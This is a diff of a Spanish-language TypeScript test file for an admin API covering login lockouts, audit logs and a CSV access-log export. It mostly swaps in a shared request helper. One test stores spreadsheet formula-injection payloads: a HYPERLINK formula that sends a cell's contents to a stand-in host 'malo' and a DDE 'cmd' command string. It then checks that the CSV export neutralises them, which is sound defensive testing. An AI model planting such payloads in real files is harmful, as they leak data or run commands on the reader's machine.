@@ -10,9 +10,11 @@ import { sesion } from '../src/platform/identidad/identidad.table';
 import { usuario } from '../src/platform/identidad/identidad.table';
 import { MAX_FILAS_CSV } from '../src/modules/control/log-acceso.service';
 import { appDePrueba, type Prueba } from './app-de-prueba';
-import { bearer, crearUsuario, iniciarSesion, PASSWORD } from './factories';
+import { crearUsuario, iniciarSesion, PASSWORD } from './factories';
+import { peticiones } from './peticion';
 
 let t: Prueba;
+const api = peticiones(() => t);
 let admin: { id: number; username: string };
 let token: string;
 beforeAll(async () => {
@@ -24,10 +26,8 @@ afterAll(() => t.cerrar());
 
 const db = () => t.database.db;
 const unico = () => randomBytes(3).toString('hex');
-const get = (url: string, tk = token) => t.app.inject({ url, headers: bearer(tk) });
-const post = (url: string, payload: unknown, tk = token) => t.app.inject({ method: 'POST', url, headers: bearer(tk), payload: payload as object });
 const panel = async () => {
-  const r = await get('/api/v1/control_panel');
+  const r = await api.get('/api/v1/control_panel', token);
   expect(r.statusCode).toBe(200);
   return r.json().data;
 };
@@ -122,7 +122,7 @@ describe('GET /api/v1/control_panel', () => {
 
 describe('bloqueos de inicio de sesión (GET /api/v1/bloqueos_login, POST /api/v1/bloqueos_login/levantar)', () => {
   const bloqueos = async () => {
-    const r = await get('/api/v1/bloqueos_login');
+    const r = await api.get('/api/v1/bloqueos_login', token);
     expect(r.statusCode).toBe(200);
     return r.json().data as {
       tipo: string;
@@ -174,7 +174,7 @@ describe('bloqueos de inicio de sesión (GET /api/v1/bloqueos_login, POST /api/v
     await fallasDesde(Array.from({ length: 100 }, (_, i) => ({ username: `otro_${i}`, ip })));
     const u = await crearUsuario(db());
     expect((await loginBien(u.username, ip)).statusCode).toBe(429);
-    const r = await post('/api/v1/bloqueos_login/levantar', { ip: ` ${ip} ` });
+    const r = await api.post('/api/v1/bloqueos_login/levantar', token, { ip: ` ${ip} ` });
     expect(r.statusCode).toBe(200);
     expect(r.json()).toMatchObject({ success: true, message: `Se levantó el bloqueo de la dirección ${ip}.`, data: { ip, username: null, fallas: 100 } });
     const [a] = await auditoriaDe(ip);
@@ -192,7 +192,7 @@ describe('bloqueos de inicio de sesión (GET /api/v1/bloqueos_login, POST /api/v
     await fallasDesde(Array.from({ length: 5 }, () => ({ username: u.username, ip: '10.24.1.1' })));
     expect((await loginBien(u.username, '10.24.2.1')).statusCode).toBe(423);
     expect((await loginBien(u.username, '10.24.1.1')).statusCode).toBe(423);
-    const r = await post('/api/v1/bloqueos_login/levantar', { username: u.username.toUpperCase() });
+    const r = await api.post('/api/v1/bloqueos_login/levantar', token, { username: u.username.toUpperCase() });
     expect(r.json()).toMatchObject({ message: `Se levantó el bloqueo del usuario "${u.username}".`, data: { ip: null, username: u.username, fallas: 35 } });
     expect(await auditoriaDe(u.username)).toHaveLength(1);
     expect((await bloqueos()).filter((b) => b.username === u.username)).toEqual([]);
@@ -203,7 +203,7 @@ describe('bloqueos de inicio de sesión (GET /api/v1/bloqueos_login, POST /api/v
   it('levantar un par (usuario y dirección) deja los demás bloqueos de ese usuario', async () => {
     const u = await crearUsuario(db());
     for (const ip of ['10.25.0.1', '10.25.0.2']) await fallasDesde(Array.from({ length: 5 }, () => ({ username: u.username, ip })));
-    const r = await post('/api/v1/bloqueos_login/levantar', { username: u.username, ip: '10.25.0.1' });
+    const r = await api.post('/api/v1/bloqueos_login/levantar', token, { username: u.username, ip: '10.25.0.1' });
     expect(r.json()).toMatchObject({ message: `Se levantó el bloqueo del usuario "${u.username}" desde la dirección 10.25.0.1.`, data: { fallas: 5 } });
     expect(await auditoriaDe(`${u.username}@10.25.0.1`)).toHaveLength(1);
     expect((await loginBien(u.username, '10.25.0.1')).statusCode).toBe(200);
@@ -212,7 +212,7 @@ describe('bloqueos de inicio de sesión (GET /api/v1/bloqueos_login, POST /api/v
 
   it('sin fallas vigentes responde que no había nada que levantar y no escribe auditoría', async () => {
     const nombre = `libre_${unico()}`;
-    const r = await post('/api/v1/bloqueos_login/levantar', { username: nombre });
+    const r = await api.post('/api/v1/bloqueos_login/levantar', token, { username: nombre });
     expect(r.statusCode).toBe(200);
     expect(r.json()).toMatchObject({ message: `No había intentos fallidos vigentes para el usuario "${nombre}".`, data: { fallas: 0 } });
     expect(await auditoriaDe(nombre)).toHaveLength(0);
@@ -221,10 +221,10 @@ describe('bloqueos de inicio de sesión (GET /api/v1/bloqueos_login, POST /api/v
   it('exige admin.acceso.desbloquear: ni el panel ni editar usuarios alcanzan (403)', async () => {
     const u = await crearUsuario(db(), { items: ['admin.panel.ver', 'admin.usuario.editar'] });
     const tk = await iniciarSesion(t.app, u.username);
-    expect((await get('/api/v1/control_panel', tk)).statusCode).toBe(200);
-    expect((await get('/api/v1/bloqueos_login', tk)).statusCode).toBe(403);
+    expect((await api.get('/api/v1/control_panel', tk)).statusCode).toBe(200);
+    expect((await api.get('/api/v1/bloqueos_login', tk)).statusCode).toBe(403);
     await fallasDesde(Array.from({ length: 5 }, () => ({ username: u.username, ip: '10.26.0.1' })));
-    const r = await post('/api/v1/bloqueos_login/levantar', { username: u.username }, tk);
+    const r = await api.post('/api/v1/bloqueos_login/levantar', tk, { username: u.username });
     expect(r.statusCode).toBe(403);
     expect(
       await db()
@@ -233,16 +233,16 @@ describe('bloqueos de inicio de sesión (GET /api/v1/bloqueos_login, POST /api/v
         .where(and(eq(intentoLogin.username, u.username), sql`${intentoLogin.anulado_at} is not null`)),
     ).toHaveLength(0);
     // The old unlock route, open to admin.usuario.editar, is gone.
-    expect((await post('/api/v1/control_panel/desbloquear', { username: u.username }, tk)).statusCode).toBe(404);
+    expect((await api.post('/api/v1/control_panel/desbloquear', tk, { username: u.username })).statusCode).toBe(404);
   });
 
   it('valida el cuerpo: sin dirección ni usuario, vacíos, de otro tipo o de 10 kB dan 400', async () => {
     for (const payload of [{}, { username: '   ' }, { ip: '' }, { username: 5 }, { ip: ['a'] }, { username: 'x'.repeat(10_240) }, { ip: 'x'.repeat(10_240) }]) {
-      const r = await post('/api/v1/bloqueos_login/levantar', payload);
+      const r = await api.post('/api/v1/bloqueos_login/levantar', token, payload);
       expect(r.statusCode, JSON.stringify(payload).slice(0, 40)).toBe(400);
       expect(r.json()).toMatchObject({ success: false, code: 'DATOS_INVALIDOS' });
     }
-    expect((await post('/api/v1/bloqueos_login/levantar', {})).json().message).toMatch(/Indique la dirección, el usuario o ambos/);
+    expect((await api.post('/api/v1/bloqueos_login/levantar', token, {})).json().message).toMatch(/Indique la dirección, el usuario o ambos/);
   });
 });
 
@@ -271,7 +271,7 @@ describe('GET /api/v1/auditoria', () => {
   });
 
   it('filtra por entidad y días de Buenos Aires, la más nueva primero, con quién hizo el cambio', async () => {
-    const r = await get(`/api/v1/auditoria?entidad=${entidad}&desde=2026-03-09&hasta=2026-03-09`);
+    const r = await api.get(`/api/v1/auditoria?entidad=${entidad}&desde=2026-03-09&hasta=2026-03-09`, token);
     expect(r.statusCode).toBe(200);
     expect(r.json().total).toBe(2);
     const [primera, segunda] = r.json().data;
@@ -285,25 +285,28 @@ describe('GET /api/v1/auditoria', () => {
       despues: { nombre: 'Algodón' },
     });
     expect(segunda).toMatchObject({ accion: 'crear', usuario: { id: admin.id, username: admin.username } });
-    const sistema = (await get(`/api/v1/auditoria?entidad=${entidad}&desde=2026-03-10`)).json();
+    const sistema = (await api.get(`/api/v1/auditoria?entidad=${entidad}&desde=2026-03-10`, token)).json();
     expect(sistema).toMatchObject({ total: 1, data: [{ accion: 'eliminar', usuario: null }] });
   });
 
   it('filtra por usuario, pagina y busca en el id, quien cambió o los datos sin acentos', async () => {
-    expect((await get(`/api/v1/auditoria?entidad=${entidad}&usuario_id=${otro.id}`)).json()).toMatchObject({ total: 1, data: [{ accion: 'editar' }] });
-    const pagina = (await get(`/api/v1/auditoria?entidad=${entidad}&limit=1&skip=1`)).json();
+    expect((await api.get(`/api/v1/auditoria?entidad=${entidad}&usuario_id=${otro.id}`, token)).json()).toMatchObject({
+      total: 1,
+      data: [{ accion: 'editar' }],
+    });
+    const pagina = (await api.get(`/api/v1/auditoria?entidad=${entidad}&limit=1&skip=1`, token)).json();
     expect(pagina.total).toBe(3);
     expect(pagina.data.map((f: { accion: string }) => f.accion)).toEqual(['editar']);
     // Usernames in tests are hex, so 'QX-8' can only match the record id.
-    expect((await get(`/api/v1/auditoria?entidad=${entidad}&filter=QX-8`)).json()).toMatchObject({ total: 1, data: [{ entidad_id: 'QX-8' }] });
-    expect((await get(`/api/v1/auditoria?entidad=${entidad}&filter=perez`)).json().total).toBe(1);
-    expect((await get(`/api/v1/auditoria?entidad=${entidad}&filter=ALGODON`)).json().total).toBe(1);
-    const entidades = (await get('/api/v1/auditoria/entidades')).json().data;
+    expect((await api.get(`/api/v1/auditoria?entidad=${entidad}&filter=QX-8`, token)).json()).toMatchObject({ total: 1, data: [{ entidad_id: 'QX-8' }] });
+    expect((await api.get(`/api/v1/auditoria?entidad=${entidad}&filter=perez`, token)).json().total).toBe(1);
+    expect((await api.get(`/api/v1/auditoria?entidad=${entidad}&filter=ALGODON`, token)).json().total).toBe(1);
+    const entidades = (await api.get('/api/v1/auditoria/entidades', token)).json().data;
     expect(entidades).toContain(entidad);
   });
 
   it('rechaza con 400 fechas inválidas o invertidas, ids no numéricos y textos de 10 kB', async () => {
-    const invertidas = await get('/api/v1/auditoria?desde=2026-03-10&hasta=2026-03-09');
+    const invertidas = await api.get('/api/v1/auditoria?desde=2026-03-10&hasta=2026-03-09', token);
     expect(invertidas.statusCode).toBe(400);
     expect(invertidas.json().message).toBe('La fecha "desde" no puede ser posterior a la fecha "hasta".');
     for (const q of [
@@ -317,7 +320,7 @@ describe('GET /api/v1/auditoria', () => {
       `filter=${'x'.repeat(10_240)}`,
       'limit=0',
     ]) {
-      expect((await get(`/api/v1/auditoria?${q}`)).statusCode, q.slice(0, 30)).toBe(400);
+      expect((await api.get(`/api/v1/auditoria?${q}`, token)).statusCode, q.slice(0, 30)).toBe(400);
     }
   });
 });
@@ -362,7 +365,7 @@ describe('GET /api/v1/log_acceso y /csv', () => {
   });
 
   it('lista los accesos con el usuario, la más nueva primero, y busca sin acentos por nombre o usuario', async () => {
-    const r = await get(`/api/v1/log_acceso?filter=${encodeURIComponent('jose perez')}`);
+    const r = await api.get(`/api/v1/log_acceso?filter=${encodeURIComponent('jose perez')}`, token);
     expect(r.statusCode).toBe(200);
     expect(r.json().total).toBe(3);
     expect(r.json().data[0]).toEqual({
@@ -375,17 +378,17 @@ describe('GET /api/v1/log_acceso y /csv', () => {
       ip: '10.1.1.3',
       message: 'Sesión',
     });
-    expect((await get(`/api/v1/log_acceso?filter=P%C3%89REZ`)).json().total).toBeGreaterThanOrEqual(3);
-    expect((await get(`/api/v1/log_acceso?filter=${jose.username.toUpperCase()}`)).json().total).toBe(3);
-    const porNavegador = (await get(`/api/v1/log_acceso?filter=${jose.username}&sortBy=browser`)).json().data;
+    expect((await api.get(`/api/v1/log_acceso?filter=P%C3%89REZ`, token)).json().total).toBeGreaterThanOrEqual(3);
+    expect((await api.get(`/api/v1/log_acceso?filter=${jose.username.toUpperCase()}`, token)).json().total).toBe(3);
+    const porNavegador = (await api.get(`/api/v1/log_acceso?filter=${jose.username}&sortBy=browser`, token)).json().data;
     expect(porNavegador.map((f: { browser: string }) => f.browser)).toEqual(['=HYPERLINK("http://malo")', 'Chromium', 'Firefox']);
   });
 
   it('filtra por días de Buenos Aires y pagina', async () => {
-    const dia9 = (await get(`/api/v1/log_acceso?filter=${jose.username}&desde=2026-03-09&hasta=2026-03-09`)).json();
+    const dia9 = (await api.get(`/api/v1/log_acceso?filter=${jose.username}&desde=2026-03-09&hasta=2026-03-09`, token)).json();
     expect(dia9.total).toBe(2);
     expect(dia9.data.map((f: { platform: string }) => f.platform)).toEqual(['Android', 'Windows']);
-    const pagina = (await get(`/api/v1/log_acceso?filter=${jose.username}&limit=1&skip=2`)).json();
+    const pagina = (await api.get(`/api/v1/log_acceso?filter=${jose.username}&limit=1&skip=2`, token)).json();
     expect(pagina).toMatchObject({ total: 3, data: [{ platform: 'Windows' }] });
   });
 
@@ -395,18 +398,18 @@ describe('GET /api/v1/log_acceso y /csv', () => {
       .insert(logAcceso)
       .values({ usuario_id: u.id, fecha_acceso: new Date('2001-02-03T15:00:00Z'), platform: 'Huérfano' });
     await db().delete(usuario).where(eq(usuario.id, u.id));
-    const r = (await get('/api/v1/log_acceso?desde=2001-02-03&hasta=2001-02-03')).json();
+    const r = (await api.get('/api/v1/log_acceso?desde=2001-02-03&hasta=2001-02-03', token)).json();
     expect(r).toMatchObject({ total: 1, data: [{ usuario: null, platform: 'Huérfano' }] });
   });
 
   it('rechaza con 400 consultas inválidas', async () => {
     for (const q of ['desde=2026-02-30', 'hasta=ayer', 'desde=2026-03-10&hasta=2026-03-01', `filter=${'x'.repeat(10_240)}`, 'limit=501', 'skip=x']) {
-      expect((await get(`/api/v1/log_acceso?${q}`)).statusCode, q.slice(0, 30)).toBe(400);
+      expect((await api.get(`/api/v1/log_acceso?${q}`, token)).statusCode, q.slice(0, 30)).toBe(400);
     }
   });
 
   it('el CSV lleva BOM, ";", cabeceras en español, fechas de Buenos Aires y el nombre Reporte-Accesos-DD-MM-YYYY.csv', async () => {
-    const r = await get(`/api/v1/log_acceso/csv?filter=${jose.username}`);
+    const r = await api.get(`/api/v1/log_acceso/csv?filter=${jose.username}`, token);
     expect(r.statusCode).toBe(200);
     expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
     const hoy = formatoFecha(new Date()).replaceAll('/', '-');
@@ -429,18 +432,14 @@ describe('GET /api/v1/log_acceso y /csv', () => {
   it('una fórmula que un empleado escribe por log_acceso sale neutralizada en el CSV, también con saltos de línea y en cualquier línea', async () => {
     const empleado = await crearUsuario(db(), { username: `empleado_${marca}` });
     const suToken = await iniciarSesion(t.app, empleado.username);
-    const r = await post(
-      '/api/v1/log_acceso',
-      {
-        platform: '=HYPERLINK("http://malo/?"&A1)\nAndroid',
-        appVersion: '-1+1\r\n2',
-        browser: 'Firefox\r\n@SUM(A1:A9)',
-        message: '=HYPERLINK("http://malo","Abrir")\nsegunda línea\n  -2+3\n\t+cmd|\' /C calc\'!A0\nfin = bien',
-      },
-      suToken,
-    );
+    const r = await api.post('/api/v1/log_acceso', suToken, {
+      platform: '=HYPERLINK("http://malo/?"&A1)\nAndroid',
+      appVersion: '-1+1\r\n2',
+      browser: 'Firefox\r\n@SUM(A1:A9)',
+      message: '=HYPERLINK("http://malo","Abrir")\nsegunda línea\n  -2+3\n\t+cmd|\' /C calc\'!A0\nfin = bien',
+    });
     expect(r.statusCode, r.body).toBe(200);
-    const csv = await get(`/api/v1/log_acceso/csv?filter=${empleado.username}`);
+    const csv = await api.get(`/api/v1/log_acceso/csv?filter=${empleado.username}`, token);
     expect(csv.statusCode).toBe(200);
     const filas = Papa.parse<string[]>(csv.rawPayload.toString('utf8').slice(1).trim(), { delimiter: ';' }).data;
     expect(filas).toHaveLength(2);
@@ -455,10 +454,10 @@ describe('GET /api/v1/log_acceso y /csv', () => {
   });
 
   it('el CSV aplica los mismos filtros y responde 400 en el sobre JSON ante una consulta inválida', async () => {
-    const r = await get(`/api/v1/log_acceso/csv?filter=${jose.username}&desde=2026-03-10`);
+    const r = await api.get(`/api/v1/log_acceso/csv?filter=${jose.username}&desde=2026-03-10`, token);
     const filas = Papa.parse<string[]>(r.rawPayload.toString('utf8').slice(1).trim(), { delimiter: ';' }).data;
     expect(filas.map((f) => f[3])).toEqual(['Plataforma', 'Linux']);
-    const mala = await get('/api/v1/log_acceso/csv?desde=mañana');
+    const mala = await api.get('/api/v1/log_acceso/csv?desde=mañana', token);
     expect(mala.statusCode).toBe(400);
     expect(mala.json()).toMatchObject({ success: false, code: 'DATOS_INVALIDOS' });
   });
@@ -466,7 +465,7 @@ describe('GET /api/v1/log_acceso y /csv', () => {
   it(`el CSV se corta en ${MAX_FILAS_CSV} filas, las más nuevas, y avisa cuántas quedaron afuera`, async () => {
     await db().execute(sql`insert into log_acceso (fecha_acceso, platform)
       select '1999-05-05T15:00:00Z'::timestamptz + make_interval(secs => g), 'Masivo' from generate_series(1, ${MAX_FILAS_CSV + 2}) g`);
-    const r = await get('/api/v1/log_acceso/csv?desde=1999-05-05&hasta=1999-05-06');
+    const r = await api.get('/api/v1/log_acceso/csv?desde=1999-05-05&hasta=1999-05-06', token);
     expect(r.statusCode).toBe(200);
     expect(r.headers['x-filas-omitidas']).toBe('2');
     const lineas = r.rawPayload.toString('utf8').trim().split('\r\n');
